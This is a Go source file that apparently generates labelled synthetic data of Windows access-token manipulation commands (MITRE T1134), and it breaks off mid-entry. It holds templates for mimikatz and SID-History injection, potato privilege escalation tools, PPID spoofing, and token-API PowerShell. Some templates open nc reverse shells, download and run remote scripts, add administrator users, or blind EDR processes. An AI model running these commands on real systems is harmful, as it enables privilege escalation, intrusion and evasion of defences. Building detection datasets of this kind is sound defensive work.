package datagen

// Access token manipulation: token theft and impersonation, make_token,
// potato exploits, PPID spoofing, SID-History injection, token APIs (label
// T1134, see POLICY.md).

func addTokenSlots(m map[string]slotFunc) {
	m["sysacct"] = oneOf(`NT AUTHORITY\SYSTEM`, `nt authority\system`, `NT AUTHORITY\\SYSTEM`, `{{domain}}\{{user}}`, `{{domain}}\\{{user}}`, `{{domain}}\Administrator`, `NT AUTHORITY\NETWORK SERVICE`, `NT AUTHORITY\LOCAL SERVICE`)
	m["shell"] = oneOf("cmd.exe", "cmd", `C:\Windows\System32\cmd.exe`, "powershell.exe", "powershell", `c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe`, `{{wtemp}}\{{rndexe}}`, `C:\Users\Public\{{rndexe}}`, "notepad.exe", "{{rndexe}}")
	m["payload"] = oneOf(`whoami`, `whoami /all`, `cmd /c whoami > {{wtemp}}\{{word}}.txt`, `net user {{user}} {{pass}} /add`, `net localgroup administrators {{user}} /add`,
		`{{wtemp}}\{{rndexe}}`, `nc.exe {{ip}} {{c2port}} -e cmd.exe`, `powershell -ep bypass -f {{wtemp}}\{{word}}.ps1`, `C:\Users\Public\{{rndexe}} {{ip}} {{c2port}}`,
		`cmd /c {{wtemp}}\{{word}}.bat`, `rundll32 {{wtemp}}\{{word}}.dll,Start`, `reg add HKLM\Software\{{word}} /f`)
	m["potato"] = oneOf("JuicyPotato.exe", "JuicyPotato", "jp.exe", "JuicyPotatoNG.exe", "{{rndexe}}", `{{wtemp}}\JuicyPotato.exe`, `C:\Users\Public\jp.exe`)
	m["clsid"] = oneOf("{4991d34b-80a1-4291-83b6-3328366b9097}", "{F87B28F1-DA9A-4F35-8EC0-800EFCF26B83}", "{e60687f7-01a1-40aa-86ac-db1cbf673334}",
		"{03ca98d6-ff5d-49b8-abc6-03dd84127020}", "{C49E32C6-BC8B-11d2-85D4-00105A1F8304}", "{9B1F122C-2982-4e91-AA8B-E071D54F2A4D}", "{{bguid}}")
	m["ppid"] = oneOf("{{pid}}", "(Get-Process explorer).Id", "(Get-Process -Name explorer).Id", "$ppid", "(gps winlogon).id", "(Get-Process lsass).Id", "(Get-Process svchost)[0].Id", "$parent.Id")
	m["parentproc"] = oneOf("explorer.exe", "winlogon.exe", "svchost.exe", "lsass.exe", "spoolsv.exe", "services.exe", "wininit.exe", "msedge.exe", "OneDrive.exe", "RuntimeBroker.exe")
	m["tokapi"] = oneOf("DuplicateTokenEx", "ImpersonateLoggedOnUser", "SetThreadToken", "CreateProcessWithTokenW", "CreateProcessAsUser", "DuplicateToken", "OpenProcessToken", "AdjustTokenPrivileges", "LogonUser", "ImpersonateNamedPipeClient", "NtSetInformationThread", "SetTokenInformation")
}

func tokenFamilies() []Family {
	c := T1134
	return []Family{
		fam("token/runas-netonly", c, "windows", Cmd,
			`runas{{|.exe}} /netonly /user:{{domain}}\{{user}} {{shell}}`,
			`runas /netonly /user:{{domain}}\{{user}} "{{shell}}"`,
			`runas /user:{{domain}}\{{user}} /netonly "{{mmc.exe dsa.msc|powershell.exe -nop|cmd.exe /k|{{shell}}}}"`,
			`runas /noprofile /netonly /user:{{user}}@{{domain}} {{shell}}`,
			`C:\Windows\System32\runas.exe /netonly /user:{{domain}}\{{user}} "{{payload}}"`,
			`echo {{pass}} | runas /netonly /user:{{domain}}\{{user}} {{shell}}`),
		fam("token/mimikatz-token-cmds", c, "windows", Cmd,
			`{{mimikatz}} "privilege::debug" "token::elevate" exit`,
			`{{mimikatz}} "token::elevate /domainadmin" exit`,
			`{{mimikatz}} "token::elevate /user:{{user}}" "token::run /process:{{shell}}" exit`,
			`{{mimikatz}} "token::list" "token::elevate /id:{{num}}" exit`,
			`{{mimikatz}} "privilege::debug" "token::elevate /system" "exit"`,
			`{{mimikatz}} "token::run /process:{{shell}}" exit`,
			`{{mimikatz}} "token::elevate /enterpriseadmin" exit`),
		fam("token/mimikatz-console-token", c, "windows", Raw,
			`token::elevate`, `token::elevate /domainadmin`, `token::elevate /user:{{user}}`, `token::revert`,
			`token::run /process:{{shell}}`, `token::list /user:{{user}}`, `token::elevate /id:{{num}}`, `mimikatz # token::elevate`,
			`token::whoami {{amp}} token::elevate`),
		fam("token/cobaltstrike-beacon", c, "windows", Raw,
			`make_token {{domain}}\{{user}} {{pass}}`, `steal_token {{pid}}`, `steal_token {{pid}} -a`, `beacon> steal_token {{pid}}`,
			`beacon> make_token {{domain}}\{{user}} {{pass}}`, `getsystem`, `beacon> getsystem`,
			`spawnas {{domain}}\{{user}} {{pass}} {{word}}`, `runas {{domain}}\{{user}} {{pass}} {{shell}}`,
			`token-store steal {{pid}}`, `token-store use {{n}}`, `token-store steal-and-use {{pid}}`),
		fam("token/meterpreter-incognito", c, "windows", Raw,
			`load incognito`, `use incognito`, `list_tokens -u`, `list_tokens -g`,
			`impersonate_token "{{sysacct}}"`, `impersonate_token {{domain}}\\{{user}}`, `steal_token {{pid}}`, `meterpreter > steal_token {{pid}}`, `add_user {{user}} {{pass}} -h {{ip}}`, `add_group_user "Domain Admins" {{user}} -h {{ip}}`,
			`run post/windows/manage/impersonate_token`, `snarf_hashes {{ip}}`, `rev2self`),
		fam("token/incognito-standalone", c, "windows", Cmd,
			`incognito{{|.exe|2.exe}} list_tokens -{{u|g}}`,
			`incognito.exe execute -c "{{sysacct}}" {{shell}}`,
			`incognito.exe execute -c "{{domain}}\{{user}}" "{{payload}}"`,
			`incognito.exe -h {{host}} -u {{user}} -p {{pass}} list_tokens -u`,
			`incognito.exe add_user -h {{ip}} {{user}} {{pass}}`,
			`incognito.exe add_localgroup_user Administrators {{user}}`),
		fam("token/invoke-tokenmanipulation", c, "windows", PS,
			`Invoke-TokenManipulation -ImpersonateUser -Username "{{sysacct}}"`,
			`Invoke-TokenManipulation -CreateProcess "{{shell}}" -Username "{{sysacct}}"`,
			`Invoke-TokenManipulation -CreateProcess "{{shell}}" -ProcessId {{pid}}{{| -ProcessArgs "{{payload}}"}}`,
			`Invoke-TokenManipulation -Enumerate{{| -ShowAll}}`, `Invoke-TokenManipulation -RevToSelf`,
			`Invoke-TokenManipulation -ImpersonateUser -ProcessId {{pid}}`,
			`Get-Process wininit | Invoke-TokenManipulation -CreateProcess "{{shell}}"`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Invoke-TokenManipulation.ps1'); Invoke-TokenManipulation -ImpersonateUser -Username "nt authority\system"`,
			`Invoke-TokenManipulation -WhoAmI`,
			`Invoke-TokenManipulation -MakeToken -Username {{user}} -Domain {{domain}} -Password {{pass}}`),
		fam("token/get-system-ps", c, "windows", PS,
			`Get-System{{| -Technique {{Token|NamedPipe}}}}`, `Get-System -ServiceName '{{word}}' -PipeName '{{word2}}'`, `Get-System -RevToSelf`,
			`Invoke-Expression (New-Object Net.WebClient).DownloadString('{{url}}/Get-System.ps1'); Get-System -Technique Token`,
			`Import-Module .\Get-System.ps1; Get-System -WhoAmI`, `Invoke-NamedPipeImpersonation -PipeName {{word}}`,
			`Invoke-PSImpersonate -Username {{sysacct}}`, `Invoke-RunAsSystem -Command "{{payload}}"`, `Invoke-TokenDuplication -Command {{shell}}`),
		fam("token/juicypotato", c, "windows", Cmd,
			`{{potato}} -l {{port}} -p {{shell}} -t *{{| -c {{clsid}}}}`,
			`{{potato}} -l {{port}} -p {{shell}} -a "/c {{payload}}" -t *{{| -c {{clsid}}}}`,
			`{{potato}} -t t -p {{shell}} -l {{port}} -c {{clsid}}`,
			`{{potato}} -l 1337 -c "{{clsid}}" -p c:\windows\system32\cmd.exe -a "/c {{payload}}" -t *`,
			`{{wtemp}}\JuicyPotato.exe -l {{port}} -p {{shell}} -t * -c {{clsid}}`),
		fam("token/printspoofer", c, "windows", Cmd,
			`PrintSpoofer{{|64|32}}.exe -i -c {{shell}}`,
			`PrintSpoofer{{|64}}.exe -c "{{payload}}"`,
			`PrintSpoofer.exe -d {{n}} -c "{{shell}}"`,
			`{{wtemp}}\PrintSpoofer64.exe -i -c "powershell -ep bypass"`,
			`{{rndexe}} -i -c {{shell}}`,
			`PrintSpoofer.exe -c "{{wtemp}}\nc.exe {{ip}} {{c2port}} -e cmd"`),
		fam("token/roguepotato", c, "windows", Cmd,
			`RoguePotato.exe -r {{ip}} -e "{{shell}}" -l {{port}}`,
			`RoguePotato.exe -r {{ip}} -c "{{clsid}}" -e "{{payload}}" -l 9999`,
			`RoguePotato.exe -r {{ip}} -e "{{wtemp}}\{{rndexe}}" -l {{port}} -p {{word}}`,
			`{{wtemp}}\RoguePotato.exe -r {{ip}} -l 9999 -e "cmd.exe /c {{payload}}"`),
		fam("token/godpotato", c, "windows", Cmd,
			`GodPotato{{|-NET4|-NET35|-NET2}}.exe -cmd "{{payload}}"`,
			`GodPotato.exe -cmd "{{shell}}"`,
			`{{wtemp}}\GodPotato-NET4.exe -cmd "cmd /c {{payload}}"`,
			`GodPotato -cmd "{{wtemp}}\nc.exe -t -e C:\Windows\System32\cmd.exe {{ip}} {{c2port}}"`),
		fam("token/sweetpotato", c, "windows", Cmd,
			`SweetPotato.exe -p {{shell}} -a "{{payload}}"`,
			`SweetPotato.exe -e {{EfsRpc|PrintSpoofer|WinRM|DCOM|BITS}} -p {{shell}}{{| -a "/c {{payload}}"}}`,
			`SweetPotato.exe -c {{clsid}} -p {{shell}} -a "/c {{payload}}" -l {{port}}`,
			`execute-assembly SweetPotato.exe -p {{shell}} -a "/c {{payload}}"`),
		fam("token/other-potatoes", c, "windows", Cmd,
			`BadPotato.exe "{{payload}}"`, `RottenPotato.exe`, `LonelyPotato.exe {{shell}}`, `PetitPotato.exe {{n}} {{shell}}`,
			`GenericPotato.exe -p {{shell}} -e HTTP -l {{port}}`, `SigmaPotato.exe "{{payload}}"`, `SigmaPotato.exe --revshell {{ip}} {{c2port}}`,
			`DeadPotato.exe -cmd "{{payload}}"`, `MultiPotato.exe -t CreateProcessWithTokenW -p "{{shell}}"`, `SharpBadPotato.exe -c "{{payload}}"`,
			`PotatoSuite.exe --method {{printspoofer|efsrpc|dcom}} -c {{shell}}`, `{{rndexe}} -t * -p {{shell}} -l {{port}} -c {{clsid}}`),
		fam("token/ppid-spoof-powershell", c, "windows", PS,
			`Start-Process {{shell}} -ParentProcessId {{ppid}}`,
			`Start-ProcessWithParent -FilePath {{shell}} -ParentId {{ppid}}`,
			`PPID-Spoof -ppid {{ppid}} -spawnto "{{shell}}" -dllpath {{pstemp}}\{{word}}.dll`,
			`Invoke-PPIDSpoof -ParentPID {{ppid}} -Binary {{shell}}`,
			`Start-PPIDSpoof -ProcessName {{parentproc}} -Command "{{payload}}"`,
			`$p = Get-Process {{explorer|winlogon|svchost|spoolsv}} | Select -First 1; Start-Process {{shell}} -ParentProcessId $p.Id`,
			`Invoke-CreateProcess -Binary {{shell}} -ParentPID {{ppid}} -CreationFlags 0x0`,
			`New-ProcessWithParent -Parent {{parentproc}} -Command "{{payload}}"`),
		fam("token/ppid-spoof-tools", c, "windows", Cmd,
			`SelectMyParent{{|.exe}} {{shell}} {{pid}}`,
			`SelectMyParent.exe "{{payload}}" {{pid}}`,
			`{{wtemp}}\SelectMyParent.exe notepad.exe {{pid}}`,
			`PPIDSpoof.exe {{pid}} {{shell}}`,
			`ppid-spoof.exe -p {{parentproc}} -c {{shell}}`,
			`SpoofParent.exe {{parentproc}} {{shell}}`,
			`SharpSpoof.exe --ppid {{pid}} --binary {{shell}}`,
			`psgetsys.ps1 {{pid}} {{shell}}`,
			`Spoof.exe -parent {{parentproc}} -command "{{payload}}"`),
		fam("token/ppid-spoof-attribute-script", c, "windows", Script,
			`$code = @"
using System; using System.Runtime.InteropServices;
public class {{word}} {
 [DllImport("kernel32.dll", SetLastError=true)] public static extern bool InitializeProcThreadAttributeList(IntPtr l, int c, int f, ref IntPtr s);
 [DllImport("kernel32.dll", SetLastError=true)] public static extern bool UpdateProcThreadAttribute(IntPtr l, uint f, IntPtr a, IntPtr v, IntPtr s, IntPtr p, IntPtr r);
 [DllImport("kernel32.dll", SetLastError=true)] public static extern IntPtr OpenProcess(uint a, bool i, int pid);
}
"@
Add-Type $code
$PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000
$hParent = [{{word}}]::OpenProcess(0x1F0FFF, $false, {{ppid}})
[{{word}}]::UpdateProcThreadAttribute($list, 0, [IntPtr]$PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, $hp, [IntPtr]8, [IntPtr]::Zero, [IntPtr]::Zero)`,
			`Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public static class Spoof {
    const int PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000;
    [DllImport("kernel32.dll")] static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inherit, uint flags, IntPtr env, string dir, ref STARTUPINFOEX si, out PROCESS_INFORMATION pi);
    [DllImport("kernel32.dll")] static extern bool UpdateProcThreadAttribute(IntPtr list, uint flags, IntPtr attr, IntPtr value, IntPtr size, IntPtr prev, IntPtr ret);
}
"@
[Spoof]::Run({{ppid}}, "{{shell}}")`),
		fam("token/sid-history-injection", c, "windows", Cmd,
			`{{mimikatz}} "privilege::debug" "sid::add /sam:{{user}} /new:{{sid}}" exit`,
			`{{mimikatz}} "sid::patch" "sid::add /sam:{{user}} /new:{{Administrator|krbtgt|{{sid}}}}" exit`,
			`{{mimikatz}} "misc::addsid {{user}} {{sid}}" exit`,
			`{{mimikatz}} "sid::add /sid:{{sid}} /new:{{sid2}}" exit`,
			`{{mimikatz}} "sid::modify /sam:{{user}} /new:{{sid}}" exit`,
			`{{mimikatz}} "sid::clear /sam:{{user}}" "sid::add /sam:{{user}} /new:{{domain}}\Domain Admins" exit`),
		fam("token/sid-history-console", c, "windows", Raw,
			`sid::add /sam:{{user}} /new:{{sid}}`, `sid::patch`, `misc::addsid {{user}} {{sid}}`, `misc::addsid {{user}} {{domain}}\Domain Admins`,
			`sid::add /sam:{{user}} /new:{{domain}}\{{Domain Admins|Enterprise Admins|Administrators}}`, `mimikatz # sid::add /sam:{{user}} /new:{{sid}}`,
			`sid::lookup /name:{{user}} {{amp}} sid::add /sam:{{user}} /new:{{sid}}`),
		fam("token/dsinternals-sidhistory", c, "windows", PS,
			`Add-ADDBSidHistory -SamAccountName {{user}} -SidHistory {{sid}} -DatabasePath {{C:\Windows\NTDS\ntds.dit|{{pstemp}}\ntds.dit|D:\NTDS\ntds.dit}}`,
			`Stop-Service ntds -Force; Add-ADDBSidHistory -SamAccountName {{user}} -SidHistory {{sid}} -DBPath C:\Windows\NTDS\ntds.dit; Start-Service ntds`,
			`Import-Module DSInternals; Add-ADDBSidHistory -SamAccountName '{{user}}' -SidHistory '{{sid}}' -DatabasePath '{{pstemp}}\ntds.dit' -Force`,
			`Add-ADDBSidHistory -SamAccountName {{user}} -SidHistory (Get-ADGroup "Domain Admins").SID -DatabasePath C:\Windows\NTDS\ntds.dit`,
			`Set-ADUser -Identity {{user}} -Add @{sidHistory='{{sid}}'}`,
			`Set-ADObject -Identity "CN={{user}},CN=Users,DC={{word}},DC=local" -Add @{sIDHistory=[System.Security.Principal.SecurityIdentifier]'{{sid}}'}`,
			`Set-DomainObject -Identity {{user}} -Set @{'sidhistory'='{{sid}}'}`),
		fam("token/token-api-dllimport", c, "windows", Script,
			`Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public class {{word}} {
    [DllImport("advapi32.dll", SetLastError=true)]
    public static extern bool OpenProcessToken(IntPtr ProcessHandle, uint DesiredAccess, out IntPtr TokenHandle);
    [DllImport("advapi32.dll", SetLastError=true)]
    public static extern bool DuplicateTokenEx(IntPtr hExistingToken, uint dwDesiredAccess, IntPtr lpTokenAttributes, int ImpersonationLevel, int TokenType, out IntPtr phNewToken);
    [DllImport("advapi32.dll", SetLastError=true)]
    public static extern bool ImpersonateLoggedOnUser(IntPtr hToken);
}
"@
$proc = Get-Process {{winlogon|lsass|services|wininit}}
$tok = [IntPtr]::Zero
[{{word}}]::OpenProcessToken($proc.Handle, 0x0006, [ref]$tok)
$dup = [IntPtr]::Zero
[{{word}}]::DuplicateTokenEx($tok, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$dup)
[{{word}}]::ImpersonateLoggedOnUser($dup)`,
			`$sig = @'
[DllImport("advapi32.dll", SetLastError = true)] public static extern bool DuplicateTokenEx(IntPtr ExistingTokenHandle, uint dwDesiredAccess, IntPtr lpThreadAttributes, int TokenType, int ImpersonationLevel, ref IntPtr DuplicateTokenHandle);
[DllImport("advapi32.dll", SetLastError = true, CharSet = CharSet.Unicode)] public static extern bool CreateProcessWithTokenW(IntPtr hToken, int dwLogonFlags, string lpApplicationName, string lpCommandLine, int dwCreationFlags, IntPtr lpEnvironment, string lpCurrentDirectory, ref STARTUPINFO lpStartupInfo, out PROCESS_INFORMATION lpProcessInformation);
'@
$api = Add-Type -MemberDefinition $sig -Name T{{n}} -Namespace {{word}} -PassThru
$api::DuplicateTokenEx($hToken, 0xf01ff, [IntPtr]::Zero, 2, 1, [ref]$hDup)
$api::CreateProcessWithTokenW($hDup, 0, "{{shell}}", $null, 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`[DllImport("advapi32.dll", SetLastError=true)]
static extern bool SetThreadToken(IntPtr pHandle, IntPtr hToken);
[DllImport("advapi32.dll")]
static extern bool DuplicateToken(IntPtr ExistingTokenHandle, int SECURITY_IMPERSONATION_LEVEL, ref IntPtr DuplicateTokenHandle);
...
DuplicateToken(hProcToken, 2, ref hDupToken);
SetThreadToken(IntPtr.Zero, hDupToken);`,
			`$def = '[DllImport("advapi32.dll", SetLastError=true)] public static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr h); [DllImport("advapi32.dll")] public static extern bool ImpersonateLoggedOnUser(IntPtr h);'
$a = Add-Type -MemberDefinition $def -Name L{{n}} -Namespace N -PassThru
$h = [IntPtr]::Zero
$a::LogonUser("{{user}}", "{{domain}}", "{{pass}}", 9, 3, [ref]$h)
$a::ImpersonateLoggedOnUser($h)`,
			`Add-Type @"
using System; using System.Runtime.InteropServices;
public class P {
  [DllImport("advapi32.dll")] public static extern bool AdjustTokenPrivileges(IntPtr h, bool d, ref TOKEN_PRIVILEGES n, int l, IntPtr p, IntPtr r);
  [DllImport("advapi32.dll")] public static extern bool OpenProcessToken(IntPtr h, int a, ref IntPtr t);
  [DllImport("advapi32.dll")] public static extern bool LookupPrivilegeValue(string s, string n, ref long l);
}
"@
[P]::LookupPrivilegeValue($null, "{{SeDebugPrivilege|SeImpersonatePrivilege|SeAssignPrimaryTokenPrivilege|SeTcbPrivilege}}", [ref]$luid)
[P]::AdjustTokenPrivileges($hTok, $false, [ref]$tp, 0, [IntPtr]::Zero, [IntPtr]::Zero)`,
			`$ntdll = Add-Type -MemberDefinition '[DllImport("ntdll.dll")] public static extern int NtSetInformationThread(IntPtr t, int c, ref IntPtr i, int l);' -Name N{{n}} -PassThru
$ntdll::NtSetInformationThread([IntPtr]-2, 5, [ref]$dupToken, 8)`,
			`[DllImport("advapi32.dll")] public static extern bool ImpersonateNamedPipeClient(IntPtr hNamedPipe);
$pipe = New-Object System.IO.Pipes.NamedPipeServerStream("{{word}}", "InOut")
$pipe.WaitForConnection()
[Pipe]::ImpersonateNamedPipeClient($pipe.SafePipeHandle.DangerousGetHandle())
[System.Security.Principal.WindowsIdentity]::GetCurrent().Name`),
		fam("token/av-token-sandboxing", c, "windows", Script,
			`Add-Type @"
using System; using System.Runtime.InteropServices;
public class S {
  [DllImport("advapi32.dll")] public static extern bool OpenProcessToken(IntPtr p, uint a, out IntPtr t);
  [DllImport("advapi32.dll")] public static extern bool SetTokenInformation(IntPtr t, int c, IntPtr i, int l);
  [DllImport("advapi32.dll")] public static extern bool AdjustTokenPrivileges(IntPtr t, bool d, IntPtr n, int l, IntPtr p, IntPtr r);
}
"@
$p = Get-Process {{MsMpEng|MsSense|SentinelAgent|CSFalconService|elastic-endpoint|ekrn}}
[S]::OpenProcessToken($p.Handle, 0x0028, [ref]$t)
[S]::AdjustTokenPrivileges($t, $true, [IntPtr]::Zero, 0, [IntPtr]::Zero, [IntPtr]::Zero)
# TokenIntegrityLevel -> Untrusted
[S]::SetTokenInformation($t, 25, $untrustedSid, $size)`,
			`SandboxDefender.exe {{MsMpEng.exe|MsSense.exe|SentinelAgent.exe}}`, `{{KillDefender.exe|{{wtemp}}\KillDefender.exe}}`,
			`TokenStomp.exe {{edrproc}}`,
			`StripTokenPrivileges.exe -p {{edrproc}} -integrity untrusted`),
		fam("token/tokenvator", c, "windows", Cmd,
			`Tokenvator.exe {{GetSystem|getsystem}}{{| {{shell}}}}`, `Tokenvator.exe Steal_Token {{pid}} {{shell}}`,
			`Tokenvator.exe GetTrustedInstaller {{shell}}`, `Tokenvator.exe BypassUAC {{pid}} {{shell}}`,
			`Tokenvator.exe List_Privileges`, `Tokenvator.exe Enable_Privilege SeDebugPrivilege`,
			`Tokenvator.exe Sample_Processes_WMI`, `Tokenvator.exe RunAs {{domain}}\{{user}} {{pass}} {{shell}}`,
			`execute-assembly Tokenvator.exe Steal_Token /Process:{{pid}} /Command:{{shell}}`),
		fam("token/runascs", c, "windows", Cmd,
			`RunasCs.exe {{user}} {{pass}} {{shell}}{{| -l {{2|3|8|9}}}}`,
			`RunasCs.exe {{user}} {{pass}} "{{payload}}" -d {{domain}} -l 9`,
			`RunasCs.exe {{user}} {{pass}} {{shell}} -r {{ip}}:{{c2port}}`,
			`RunasCs.exe {{user}} {{pass}} "{{shell}}" --bypass-uac{{| --logon-type 8}}`,
			`Invoke-RunasCs -Username {{user}} -Password {{pass}} -Command "{{payload}}"`,
			`RunasCs_net2.exe {{user}} {{pass}} {{shell}} -b`),
		fam("token/rubeus-createnetonly", c, "windows", Cmd,
			`Rubeus.exe createnetonly /program:{{shell}}{{| /show}}`,
			`Rubeus.exe createnetonly /program:"{{shell}}" /domain:{{domain}} /username:{{user}} /password:{{pass}}{{| /ticket:{{word}}.kirbi}}`,
			`Rubeus.exe createnetonly /program:C:\Windows\System32\cmd.exe /show /ptt /ticket:{{hex32}}`,
			`execute-assembly Rubeus.exe createnetonly /program:{{shell}}`),
		fam("token/sliver-havoc-empire", c, "windows", Raw,
			`impersonate {{domain}}\\{{user}}`, `make-token -u {{user}} -d {{domain}} -p {{pass}}`, `sliver > make-token -u {{user}} -p {{pass}} -d {{domain}}`,
			`getsystem`, `rev2self`, `token steal {{pid}}`, `token make {{domain}} {{user}} {{pass}}`, `token impersonate {{n}}`,
			`token getuid`, `token list`, `token privs-get`, `usemodule powershell/privesc/getsystem`, `usemodule privesc/getsystem`,
			`usemodule powershell/credentials/tokens`, `usemodule powershell/management/runas`, `steal_token {{pid}}`, `runas {{domain}}\{{user}} {{pass}} {{shell}}`,
			`MakeToken {{user}} {{domain}} {{pass}}`, `ImpersonateUser {{domain}}\{{user}}`, `ImpersonateProcess {{pid}}`, `StealToken {{pid}}`,
			`spawnas {{domain}}\{{user}} {{pass}} {{word}}`, `getprivs`, `run-as {{user}} {{pass}} {{shell}}`),
		fam("token/ntobjectmanager", c, "windows", PS,
			`$t = Get-NtToken -Duplicate -ProcessId {{pid}}{{| -ImpersonationLevel Impersonation}}; Invoke-NtToken $t { {{payload}} }`,
			`$tok = Get-NtToken -Primary -Process (Get-NtProcess -ProcessId {{pid}}) -Duplicate; New-Win32Process -CommandLine "{{shell}}" -Token $tok`,
			`Invoke-NtToken -System { {{payload}} }`,
			`$p = Get-NtProcess -Name {{lsass.exe|winlogon.exe|services.exe}} | select -First 1; $t = Get-NtToken -Process $p -Duplicate; New-Win32Process {{shell}} -Token $t`,
			`Get-NtToken -Anonymous | Invoke-NtToken -Script { {{payload}} }`,
			`$tok = Get-NtToken -Logon -User {{user}} -Domain {{domain}} -Password {{pass}} -LogonType Network; Invoke-NtToken $tok { dir \\{{host}}\c$ }`),
		fam("token/windowsidentity-impersonate", c, "windows", PS,
			`$ctx = [System.Security.Principal.WindowsIdentity]::Impersonate($token)`,
			`[System.Security.Principal.WindowsIdentity]::RunImpersonated($safeToken, [Action]{ {{payload}} })`,
			`$id = New-Object System.Security.Principal.WindowsIdentity($hDupToken); $ctx = $id.Impersonate(); {{payload}}; $ctx.Undo()`,
			`[System.Security.Principal.WindowsIdentity]::RunImpersonated([Microsoft.Win32.SafeHandles.SafeAccessTokenHandle]$dup, { Get-Content \\{{host}}\c$\{{word}}.txt })`,
			`$wi = [System.Security.Principal.WindowsIdentity]::new($hToken); $wic = $wi.Impersonate()`),
		fam("token/meterpreter-migrate-steal", c, "windows", Raw,
			`steal_token {{pid}}`, `drop_token`, `getuid {{amp}} steal_token {{pid}}`, `use_token {{domain}}\\{{user}}`,
			`execute -H -f {{shell}} -t`, `execute -f {{shell}} -i -H -t`, `impersonate_ssp`, `run getsystem`),
		fam("token/adjust-privilege-ps", c, "windows", PS,
			`Enable-Privilege {{SeDebugPrivilege|SeImpersonatePrivilege|SeTakeOwnershipPrivilege|SeBackupPrivilege|SeRestorePrivilege|SeLoadDriverPrivilege}}`,
			`Set-TokenPrivilege -Privilege {{SeDebugPrivilege|SeImpersonatePrivilege|SeTcbPrivilege}} -Enable`,
			`Import-Module PoshPrivilege; Add-Privilege -AccountName {{domain}}\{{user}} -Privilege {{SeDebugPrivilege|SeImpersonatePrivilege|SeAssignPrimaryTokenPrivilege}}; Enable-Privilege -Privilege SeDebugPrivilege`,
			`Set-NtTokenPrivilege {{SeDebugPrivilege|SeImpersonatePrivilege|SeAssignPrimaryTokenPrivilege}}`,
			`Invoke-EnableAllTokenPrivs`,
			`[MyPriv]::EnablePrivilege("SeDebugPrivilege"); Invoke-TokenManipulation -ImpersonateUser -Username "nt authority\system"`),
		fam("token/uac-token-duplication", c, "windows", Cmd,
			`UACME{{|.exe}} Akagi64.exe {{35|34|59|61}} {{shell}}`,
			`Akagi64.exe {{35|34|59|61}} {{shell}}`,
			`{{wtemp}}\akagi.exe 35 "{{payload}}"`,
			`UAC-TokenMagic.ps1; UAC-TokenMagic -BinPath {{shell}} -Args "/c {{payload}}"`,
			`powershell -ep bypass -c "Import-Module .\UAC-TokenMagic.ps1; UAC-TokenMagic -BinPath C:\Windows\System32\cmd.exe"`),
		fam("token/c-sharp-token-oneliner", c, "windows", PS,
			`[Tok]::DuplicateTokenEx($h, 0x2000000, [IntPtr]::Zero, 2, 1, [ref]$d); [Tok]::ImpersonateLoggedOnUser($d)`,
			`$null = [Advapi32]::{{tokapi}}($hToken{{|, 2, [ref]$hDup}}); [Advapi32]::SetThreadToken([IntPtr]::Zero, $hDup)`,
			`[Win32]::CreateProcessWithTokenW($hDup, 0x00000002, "{{shell}}", $null, 0x00000010, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`[Kernel32]::OpenProcess(0x400, $false, {{pid}}) | % { [Advapi32]::OpenProcessToken($_, 0x0E, [ref]$t) }; [Advapi32]::DuplicateTokenEx($t, 0x2000000, 0, 2, 1, [ref]$d)`,
			`[Advapi32]::ImpersonateLoggedOnUser($hDupToken); Copy-Item \\{{host}}\c$\{{word}} {{pstemp}}`),
		fam("token/bof-token-commands", c, "windows", Raw,
			`inline-execute {{wtemp}}\steal_token.x64.o {{pid}}`, `bof-token steal {{pid}}`, `make_token_cert {{wtemp}}\{{word}}.pfx {{pass}}`,
			`token_vault create {{word}}`, `token_vault steal {{pid}}`, `token_vault use {{word}}`, `impersonate_process {{pid}}`,
			`getsystem_token`, `get_priv SeImpersonatePrivilege`, `tokenvault steal {{pid}}`, `tgtdeleg && make_token {{domain}}\{{user}} {{pass}}`),
		fam("token/juicypotato-ng", c, "windows", Cmd,
			`JuicyPotatoNG.exe -t * -p "{{shell}}" -a "/c {{payload}}"{{| -l {{port}}}}`,
			`JuicyPotatoNG.exe -t * -p {{shell}} -i`,
			`JuicyPotatoNG.exe -t t -p {{shell}} -a "{{payload}}" -c {{clsid}}`,
			`{{wtemp}}\JuicyPotatoNG.exe -t u -p "{{wtemp}}\{{rndexe}}"`),
		fam("token/efspotato", c, "windows", Cmd,
			`EfsPotato{{|.exe}} "{{payload}}"`, `EfsPotato.exe "{{shell}}" {{efsrpc|lsarpc|samr|netlogon|lsass}}`,
			`SharpEfsPotato.exe -p {{shell}} -a "/c {{payload}}"`, `{{wtemp}}\EfsPotato.exe "{{payload}}"`,
			`csc.exe /out:{{wtemp}}\efs.exe EfsPotato.cs {{amp}} {{wtemp}}\efs.exe "{{payload}}"`),
		fam("token/coerced-local-potato", c, "windows", Cmd,
			`CoercedPotato.exe -c {{shell}}`, `CoercedPotato.exe --command "{{payload}}"{{| --rpc {{ms-rprn|ms-efsr}}}}`,
			`LocalPotato.exe -i {{wtemp}}\{{word}}.dll -o \Windows\System32\{{word}}.dll`, `LocalPotato.exe -i {{wtemp}}\{{file}} -o {{word}}`,
			`DCOMPotato.exe "{{payload}}"`, `PrintNotifyPotato.exe "{{payload}}"`, `RasmanPotato.exe -c "{{payload}}"`),
		fam("token/tater-hot-potato", c, "windows", PS,
			`Invoke-Tater -Trigger {{1|2}} -Command "{{payload}}"`,
			`Invoke-Tater -IP {{ip}} -Command "net user {{user}} {{pass}} /add && net localgroup administrators {{user}} /add"`,
			`Import-Module .\Tater.ps1; Invoke-Tater -Trigger 1 -Command "{{payload}}"`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Tater.ps1'); Invoke-Tater -Command "{{payload}}"`,
			`Potato.exe -ip {{ip}} -cmd "{{payload}}" -disable_exhaust true{{| -disable_defender true}}`,
			`Invoke-BadPotato -Command "{{payload}}"`),
		fam("token/sharpimpersonation", c, "windows", Cmd,
